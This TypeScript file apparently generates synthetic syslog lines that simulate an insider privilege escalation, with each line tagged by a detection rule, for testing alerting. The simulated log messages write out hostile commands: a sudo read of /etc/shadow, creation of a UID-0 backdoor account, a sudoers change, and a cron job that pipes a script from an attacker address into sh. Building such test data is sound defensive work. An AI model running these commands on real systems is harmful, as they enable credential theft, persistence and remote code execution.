import type { Random } from '../random.ts'
import { RULE } from '../rule-ids.ts'
import type { Step } from '../story.ts'
import { syslogLine } from '../syslog.ts'
import { attackerAddress, PEOPLE, SERVERS } from '../world.ts'

/** Somebody inside tries to become root, gets there, and leaves ways to come back. */
export function privilegeEscalation(random: Random): Step[] {
  const host = random.pick(SERVERS)
  const { user } = random.pick(PEOPLE)
  const spare = random.pick(['svc-update', 'sysadm', 'toor', 'helpdesk2'])
  const pid = () => random.between(900, 65_000)
  const step = (tag: string, message: string, ...rules: string[]): Step => ({
    line: time_ms => syslogLine(time_ms, host, tag, message),
    rules,
  })
  const sudo = (reason: string, command: string, ...rules: string[]) =>
    step(
      'sudo',
      `${user.padStart(8)} : ${reason}TTY=pts/2 ; PWD=/home/${user} ; USER=root ; COMMAND=${command}`,
      ...rules,
    )

  return [
    step(`su[${pid()}]`, `FAILED SU (to root) ${user} on pts/2`, RULE.suFailedToRoot),
    sudo('user NOT in sudoers ; ', '/usr/bin/id', RULE.sudoNotAllowed),
    sudo('3 incorrect password attempts ; ', '/usr/bin/id', RULE.sudoWrongPassword),
    sudo('', '/usr/bin/id'),
    sudo('', '/usr/bin/cat /etc/shadow', RULE.sudoReadsShadow),
    sudo('', '/bin/bash', RULE.sudoRootShell),
    step(
      `useradd[${pid()}]`,
      `new user: name=${spare}, UID=0, GID=0, home=/home/${spare}, shell=/bin/bash, from=/dev/pts/2`,
      RULE.accountWithUidZero,
    ),
    step(`usermod[${pid()}]`, `add '${spare}' to group 'sudo'`, RULE.accountAddedToAdminGroup),
    step(`usermod[${pid()}]`, `add '${spare}' to shadow group 'sudo'`, RULE.accountAddedToAdminGroup),
    sudo('', '/usr/bin/tee -a /etc/sudoers.d/90-update', RULE.sudoChangesSudoers),
    step(
      `CRON[${pid()}]`,
      `(${spare}) CMD (curl -fsSL http://${attackerAddress(random)}/u.sh | sh)`,
      RULE.cronDownloadsToShell,
    ),
  ]
}
